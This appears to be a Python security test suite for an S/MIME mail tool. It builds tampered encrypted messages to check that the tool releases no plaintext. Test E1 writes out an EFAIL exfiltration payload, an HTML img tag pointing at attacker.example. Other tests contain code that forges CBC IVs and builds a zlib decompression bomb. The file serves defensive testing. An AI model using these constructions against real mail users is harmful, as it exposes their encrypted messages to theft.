#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Catalogue 2.1, EFAIL and confidentiality (E1-E11): hostile EnvelopedData and
AuthEnvelopedData built from our own genuine messages, read by the real binary.

Run:  /usr/bin/python3 tests/catalogue/test_efail.py [-v] [--sealpost BIN]
"""

import re
import sys
import zlib
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

from hostile import (CatalogueCase, BAD_INPUT, MARKER, NOT_GOOD, OID, OK, T, body, ctx, e2e_util,  # noqa: E402
                     entity_of, enveloped_fields, examine, integer, main, multipart, null, octet,
                     oid, openssl, p7m_message, parse, plain_message, run_checked, seq, stderr_lines)


class Efail(CatalogueCase):
    CASE = "efail"

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        w = cls.w
        cls.plain = cls.c.file(plain_message())
        cls.cbc = cls.c.file(b"")
        cls.alice.encrypt(cls.plain, cls.cbc, [w.cert("bob", "rsa")], cipher="aes-256-cbc")
        cls.gcm = cls.c.file(b"")
        cls.alice.encrypt(cls.plain, cls.gcm, [w.cert("bob", "rsa")], cipher="aes-256-gcm")

    # --- helpers --------------------------------------------------------------------------

    def der_of(self, path):
        return e2e_util.base64_body(path.read_bytes())

    def as_message(self, der, smime_type="enveloped-data"):
        return self.c.file(p7m_message(der, smime_type))

    def assert_nothing_released(self, path, *, rc, error=None):
        rcs = rc if isinstance(rc, tuple) else (rc,)
        """Both `decrypt` and `read` refuse: the exit code, one line naming why, no output
        file, and no byte of the plaintext anywhere."""
        out = self.c.dir / (path.stem + "-out.eml")
        r = run_checked(self.bob, "decrypt", "--in", path, "--out", out)
        self.assertIn(r.rc, rcs, r.describe())
        self.assertFalse(out.exists(), r.describe())
        self.assertNotIn(MARKER.encode(), r.stdout + r.stderr)
        lines = stderr_lines(r)
        self.assertEqual(len(lines), 1, r.describe())
        if error:
            self.assertRegex(lines[0], re.compile(error, re.I), r.describe())
        r, v = examine(self.bob, "read", path)
        self.assertNotIn(MARKER.encode(), r.stdout)
        self.assertNotEqual(r.rc, OK, r.describe())
        if v is not None:
            self.assertFalse(v.get("body"), r.describe())
            bad = [l for l in v["layers"] if l["kind"] == "encrypted" and l["status"] != "ok"]
            self.assertTrue(bad, r.describe())
            if error:
                self.assertRegex(bad[0].get("error", ""), re.compile(error, re.I), r.describe())
        return r

    def assert_reads_fine(self, path):
        r, v = examine(self.bob, "read", path)
        self.assertEqual(r.rc, OK, r.describe())
        self.assertIn(MARKER, v["body"], r.describe())
        return v

    # --- E1 -------------------------------------------------------------------------------

    def test_E1_mime_mixing_does_not_decrypt_errant_part(self):
        part = entity_of(self.cbc.read_bytes())
        html1 = b'Content-Type: text/html\r\n\r\n<img src="http://attacker.example/?'
        html3 = b'Content-Type: text/html\r\n\r\n">'
        attack = self.c.file(multipart("mixed", [html1, part, html3]))
        r, v = examine(self.bob, "read", attack)
        self.assertEqual(r.rc, NOT_GOOD, r.describe())
        self.assertFalse(v["encrypted"], r.describe())
        enc = [l for l in v["layers"] if l["kind"] == "encrypted"]
        self.assertEqual(len(enc), 1, r.describe())
        self.assertEqual(enc[0]["status"], "not-decrypted", r.describe())
        self.assertFalse(enc[0]["covers_whole_message"])
        self.assertRegex(enc[0]["error"], re.compile("EFAIL|not decrypted", re.I))
        self.assertNotIn(MARKER.encode(), r.stdout)
        # Twin: the same encrypted part as the whole message decrypts.
        self.assertTrue(self.assert_reads_fine(self.cbc)["encrypted"])

    # --- E2 -------------------------------------------------------------------------------

    def cbc_gadget(self, source, known, wanted):
        """XORs the CBC IV so the first plaintext block reads `wanted` instead of `known`."""
        ci = parse(self.der_of(source))
        fields, _, eci = enveloped_fields(ci)
        alg = fields[eci][1]
        self.assertEqual(alg[0].oid(), OID["aes256cbc"])
        iv = bytearray(alg[1].value)
        for i, (k, w) in enumerate(zip(known, wanted)):
            iv[i] ^= k ^ w
        alg[1].value = bytes(iv)
        return ci.encode()

    def test_E2_cbc_gadget_is_flagged_unauthenticated(self):
        known = b"Content-Type: te"  # the first block of every entity Sealpost encrypts
        raw = e2e_util.cms_decrypt_raw(self.der_of(self.cbc), self.w.cert("bob", "rsa"),
                                       self.w.pki.key("bob", "rsa"), self.c.dir)
        self.assertEqual(raw[:16], known)
        wanted = b'X-Img: <img src='
        path = self.as_message(self.cbc_gadget(self.cbc, known, wanted))
        r, v = examine(self.bob, "read", path)
        # CBC cannot notice: the content is released, but never as integrity-protected.
        self.assertEqual(v["encryption"]["authenticated"], False, r.describe())
        self.assertTrue(any("not integrity-protected" in w for w in v["warnings"]), r.describe())
        self.assertFalse(v["signed"])
        # With a signature inside, the gadget breaks it: never good.
        signed_enc = self.c.file(b"")
        self.alice.protect(self.plain, signed_enc, [self.w.cert("bob", "rsa")])
        self.assertEqual(self.der_of(signed_enc)[:1], b"\x30")
        der = self.der_of(signed_enc)
        inner = e2e_util.cms_decrypt_raw(der, self.w.cert("bob", "rsa"), self.w.pki.key("bob", "rsa"), self.c.dir)
        # Flip a bit of the ciphertext block before the one holding MARKER: that block
        # turns to noise and MARKER's block changes exactly where chosen (CBC malleability).
        pos = inner.index(MARKER.encode()) + 2
        self.assertGreaterEqual(pos, 32)
        ciphertext = b"".join(der[a:b] for a, b in e2e_util.ciphertext_ranges(der))
        offsets = [i for a, b in e2e_util.ciphertext_ranges(der) for i in range(a, b)]
        self.assertEqual(len(ciphertext), len(offsets))
        path = self.as_message(e2e_util.flip(der, offsets[pos - 16], 0x20))
        r, v = examine(self.bob, "read", path)
        self.assertEqual(r.rc, NOT_GOOD, r.describe())
        self.assertEqual([s["status"] for s in v["signatures"]], ["invalid"], r.describe())
        self.assertNotIn(MARKER.encode(), r.stdout)
        # Twin: the untouched signed+encrypted message is good.
        r, v = examine(self.bob, "read", signed_enc)
        self.assertEqual(r.rc, OK, r.describe())

    # --- E3 -------------------------------------------------------------------------------

    def gcm_variants(self):
        der = self.der_of(self.gcm)
        ci = parse(der)
        fields, _, eci = enveloped_fields(ci)
        mac = fields[-1]
        self.assertEqual(mac.tag, 0x04)
        out = {}
        ct_ranges = e2e_util.ciphertext_ranges(der)
        start, end = ct_ranges[0]
        out["ciphertext bit"] = e2e_util.flip(der, (start + end) // 2)
        tag_start, tag_end = e2e_util.gcm_tag_range(der)
        out["tag bit"] = e2e_util.flip(der, tag_end - 1)
        # Truncated tag, ICV length left as declared.
        full = mac.value
        mac.value = full[:12]
        out["truncated tag"] = ci.encode()
        mac.value = full
        # authAttrs injected: they are part of the GCM AAD, so the tag no longer matches.
        attrs = T(0xA1, kids=[seq(oid(OID["contentType"]), T(0x31, kids=[oid(OID["data"])]))])
        body(ci).kids.insert(len(body(ci).kids) - 1, attrs)
        out["authAttrs added"] = ci.encode()
        return out

    def test_E3_gcm_tamper_releases_no_plaintext(self):
        for name, der in self.gcm_variants().items():
            with self.subTest(name):
                # OpenSSL cannot even parse the authAttrs we inject: a malformed-input error
                # (exit 3) is as safe as the tag mismatch (exit 1) there.
                rc = (NOT_GOOD, BAD_INPUT) if name == "authAttrs added" else NOT_GOOD
                error = None if name == "authAttrs added" else r"altered|authentication tag|tag"
                self.assert_nothing_released(self.as_message(der, "authEnveloped-data"), rc=rc, error=error)
        v = self.assert_reads_fine(self.gcm)
        self.assertTrue(v["encryption"]["authenticated"])

    # --- E4 -------------------------------------------------------------------------------

    def with_gcm_params(self, nonce=None, icv=None, tag_len=None, cipher_oid=None):
        ci = parse(self.der_of(self.gcm))
        fields, _, eci = enveloped_fields(ci)
        alg = fields[eci][1]
        if cipher_oid:
            alg.kids[0] = oid(cipher_oid)
        params = alg[1]
        if nonce is not None:
            params.kids[0] = octet(nonce)
        if icv is not None:
            params.kids[1:] = [integer(icv)]
        if tag_len is not None:
            fields[-1].value = fields[-1].value[:tag_len]
        return ci.encode()

    def test_E4_short_gcm_tags_rejected(self):
        for n in (1, 4, 8):
            with self.subTest(icv=n):
                path = self.as_message(self.with_gcm_params(icv=n, tag_len=n), "authEnveloped-data")
                self.assert_nothing_released(path, rc=NOT_GOOD, error=r"at least 12|tag")
        with self.subTest("twin: the 12-byte prefix of the tag, declared 12, is a valid GCM tag"):
            path = self.as_message(self.with_gcm_params(icv=12, tag_len=12), "authEnveloped-data")
            self.assert_reads_fine(path)
        with self.subTest("12 bytes declared, a wrong 12-byte tag"):
            der = self.with_gcm_params(icv=12, tag_len=12)
            _, end = e2e_util.gcm_tag_range(der)
            path = self.as_message(e2e_util.flip(der, end - 1), "authEnveloped-data")
            self.assert_nothing_released(path, rc=NOT_GOOD, error=r"altered|tag mismatch")

    # --- E5 -------------------------------------------------------------------------------

    def test_E5_bad_aead_parameters_clean_error(self):
        path = self.as_message(self.with_gcm_params(nonce=b"\x00" * 65536), "authEnveloped-data")
        self.assert_nothing_released(path, rc=BAD_INPUT, error=r"nonce")
        path = self.as_message(self.with_gcm_params(cipher_oid=OID["aes256ofb"]), "authEnveloped-data")
        self.assert_nothing_released(path, rc=NOT_GOOD, error=r"not an AEAD")

    # --- E6 -------------------------------------------------------------------------------

    def test_E6_gcm_relabelled_as_cbc_never_authenticated(self):
        ci = parse(self.der_of(self.gcm))
        fields, ri, eci = enveloped_fields(ci)
        ci.kids[0] = oid(OID["envelopedData"])
        nonce = fields[eci][1][1][0].value
        tag = fields[-1].value
        enc = fields[eci].kids[2]
        enc.value = enc.value + tag
        fields[eci].kids[1] = seq(oid(OID["aes256cbc"]), octet((nonce + b"\x00" * 16)[:16]))
        del fields[-1]  # mac
        fields[0] = integer(2)
        path = self.as_message(ci.encode())
        r, v = examine(self.bob, "read", path)
        self.assertNotIn(MARKER.encode(), r.stdout)
        self.assertNotEqual(r.rc, OK, r.describe())
        enc_layers = [l for l in v["layers"] if l["kind"] == "encrypted"]
        self.assertTrue(enc_layers and (enc_layers[0]["status"] != "ok" or
                                        not v["encryption"]["authenticated"]), r.describe())
        # A GCM OID relabelled into an EnvelopedData is refused before any key is used.
        fields[eci].kids[1] = seq(oid(OID["aes256gcm"]), seq(octet(nonce)))
        path = self.as_message(ci.encode())
        self.assert_nothing_released(path, rc=BAD_INPUT, error=r"unauthenticated envelope claims")

    # --- E7 -------------------------------------------------------------------------------

    def test_E7_no_padding_oracle_between_recipient_infos(self):
        w = self.w
        two = self.c.file(b"")
        self.alice.encrypt(self.plain, two, [w.cert("bob", "rsa")], cipher="aes-256-cbc")
        der = self.der_of(two)
        bob_der = Path(w.cert("bob", "rsa"))
        bob_serial = openssl("x509", "-in", bob_der, "-noout", "-serial").decode().split("=")[1].strip()

        def with_bob_key(encrypted_key):
            ci = parse(der)
            fields, ri, _ = enveloped_fields(ci)
            mine = [r for r in fields[ri].kids if r.tag == 0x30 and
                    r[1][1].value.hex().lstrip("0").upper() == bob_serial.lstrip("0").upper()]
            self.assertEqual(len(mine), 1)
            mine[0].kids[3].value = encrypted_key
            return self.as_message(ci.encode())

        pub = self.c.dir / "bob-pub.pem"
        pub.write_bytes(openssl("x509", "-in", bob_der, "-noout", "-pubkey"))

        def rsa_encrypt(data):
            src = self.c.file(data, ".bin")
            return openssl("pkeyutl", "-encrypt", "-pubin", "-inkey", pub, "-in", src)

        variants = {
            "not PKCS#1 conformant": bytes(range(256)),
            "conformant, 5-byte key": rsa_encrypt(b"12345"),
            "conformant, 32-byte wrong key": rsa_encrypt(b"K" * 32),
        }
        seen = {}
        for name, ek in variants.items():
            with self.subTest(name):
                r = self.assert_nothing_released(with_bob_key(ek), rc=NOT_GOOD)
                seen[name] = (r.rc, stderr_lines(r)[0])
        self.assertEqual(len(set(seen.values())), 1, f"observable results differ: {seen}")
        # Another recipient's malformed RecipientInfo is never tried: bob reads fine.
        ci = parse(der)
        fields, ri, _ = enveloped_fields(ci)
        others = [r for r in fields[ri].kids if r.tag == 0x30 and
                  r[1][1].value.hex().lstrip("0").upper() != bob_serial.lstrip("0").upper()]
        self.assertTrue(others)
        others[0].kids[3].value = bytes(range(256))
        self.assert_reads_fine(self.as_message(ci.encode()))

    # --- E8 -------------------------------------------------------------------------------

    def test_E8_reply_forward_oracle(self):
        self.skipTest("E8: the engine has no reply/forward composer to quote decrypted parts into")

    # --- E9 -------------------------------------------------------------------------------

    def test_E9_password_and_kek_recipients_refused(self):
        src = self.c.file(entity_of(plain_message()))
        pwri = openssl("cms", "-encrypt", "-binary", "-aes-256-cbc", "-in", src, "-outform", "DER",
                       "-pwri_password", "hunter2")
        self.assert_nothing_released(self.as_message(pwri), rc=NOT_GOOD, error=r"password or shared-key")
        kek = openssl("cms", "-encrypt", "-binary", "-aes-256-cbc", "-in", src, "-outform", "DER",
                      "-secretkey", "00112233445566778899AABBCCDDEEFF", "-secretkeyid", "C0FFEE")
        self.assert_nothing_released(self.as_message(kek), rc=NOT_GOOD, error=r"password or shared-key")
        # A PWRI beside our own KTRI is never touched: bob reads fine.
        both = openssl("cms", "-encrypt", "-binary", "-aes-256-cbc", "-in", src, "-outform", "DER",
                       "-recip", self.w.cert("bob", "rsa"), "-pwri_password", "hunter2")
        self.assert_reads_fine(self.as_message(both))

    # --- E10 ------------------------------------------------------------------------------

    def test_E10_missing_recipient_parameters_clean_error(self):
        w = self.w
        bob_ec = w.profile("bob-ec256")
        src = self.c.file(entity_of(plain_message()))
        kari = openssl("cms", "-encrypt", "-binary", "-aes-256-cbc", "-in", src, "-outform", "DER",
                       w.cert("bob", "ec256"))
        ci = parse(kari)
        fields, ri, _ = enveloped_fields(ci)
        k = fields[ri][0]
        self.assertEqual(k.tag, 0xA1)
        kea = [x for x in k.kids if x.tag == 0x30][0]
        self.assertGreater(len(kea.kids), 1)
        del kea.kids[1:]  # keyEncryptionAlgorithm without its key-wrap parameters
        path = self.as_message(ci.encode())
        r = run_checked(bob_ec, "decrypt", "--in", path, "--out", self.c.dir / "e10-kari.eml")
        self.assertIn(r.rc, (NOT_GOOD, BAD_INPUT), r.describe())
        self.assertEqual(len(stderr_lines(r)), 1, r.describe())
        self.assertNotIn(MARKER.encode(), r.stdout)
        # Twin: the untouched KARI message opens.
        r = run_checked(bob_ec, "decrypt", "--in", self.as_message(kari), "--out", self.c.dir / "e10-ok.eml")
        self.assertEqual(r.rc, OK, r.describe())

        oaep = self.c.file(b"")
        self.alice.encrypt(self.plain, oaep, [w.cert("bob", "rsa")], oaep=True)
        ci = parse(self.der_of(oaep))
        fields, ri, _ = enveloped_fields(ci)
        for r_ in fields[ri].kids:
            params = r_[2][1]
            params.kids.append(T(0xA2, kids=[seq(oid(OID["pSpecified"]))]))  # pSourceFunc, no parameters
        self.assert_nothing_released(self.as_message(ci.encode()), rc=NOT_GOOD)

    # --- E11 ------------------------------------------------------------------------------

    def test_E11_compressed_data_refused(self):
        bomb = zlib.compress(b"\0" * (64 << 20), 9)  # 64 MiB of zeros in ~64 KiB
        ci = seq(oid(OID["compressedData"]), ctx(0, seq(integer(0), seq(oid(OID["zlib"])),
                                                        seq(oid(OID["data"]), ctx(0, octet(bomb))))))
        path = self.c.file(p7m_message(ci.encode(), "compressed-data"))
        r, v = examine(self.bob, "read", path)
        self.assertNotEqual(r.rc, OK, r.describe())
        self.assertEqual(v["layers"][0]["status"], "unsupported", r.describe())
        self.assertRegex(v["layers"][0]["error"], re.compile("compressed.*not supported", re.I))
        self.assertRegex(stderr_lines(r)[0], re.compile("compressed", re.I), r.describe())


if __name__ == "__main__":
    main()
